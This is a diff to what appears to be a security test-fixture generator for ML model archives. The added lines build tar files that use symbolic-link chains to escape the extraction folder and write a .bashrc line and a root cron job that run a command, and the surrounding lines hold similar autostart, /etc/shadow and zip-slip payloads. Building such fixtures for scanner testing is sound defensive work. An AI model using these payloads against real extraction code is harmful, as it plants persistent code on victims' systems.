@@ -115,6 +115,12 @@ def attacks():
         "s24: pax tar whose extended header path=../../.config/autostart/x.desktop replaces the ustar name model.ckpt (readers of the ustar name see a harmless member)")
     add("s24-tar-gnu-longlink-escape.tar", tar([("model/weights", None, tarfile.SYMTYPE, "../" * 40 + "etc/shadow")]),
         "s24: GNU tar symbolic link whose 123-byte target is carried in a K (long link name) record")
+    add("s24-tar-symlink-then-dotdot.tar", tar([("model/", None, tarfile.DIRTYPE, ""), ("model/here", None, tarfile.SYMTYPE, "."),
+                                               ("model/here/../../.bashrc", CMD.encode() + b"\n")]),
+        "s24: symbolic link model/here -> . (inside), then a member model/here/../../.bashrc that stays inside as text and leaves through the link")
+    add("s24-tar-symlink-chain.tar", tar([("d1", None, tarfile.SYMTYPE, "."), ("d1/d2", None, tarfile.SYMTYPE, ".."),
+                                         ("d1/d2/etc/cron.d/pathfinder", b"* * * * * root " + CMD.encode() + b"\n")]),
+        "s24: a chain of symbolic links each inside as text (d1 -> ., d1/d2 -> ..) that resolves outside (the 2025 tarfile filter bypass class, CVE-2025-4517)")
     add("s24-nemo-dotdot.nemo", nemo(NEMO_CONFIG, extra=[("../../../../home/user/.config/autostart/pathfinder.desktop", b"[Desktop Entry]\nExec=" + CMD.encode() + b"\n")]),
         "s24: a .nemo model (NeMo's tar: model_config.yaml, model_weights.ckpt) with a member escaping the restore folder (NeMo restore_from extracts the tar)")
     add("s24-mar-zip-slip.mar", zip_bytes([("MAR-INF/MANIFEST.json", b'{"model": {"modelName": "m", "handler": "handler.py"}}'),
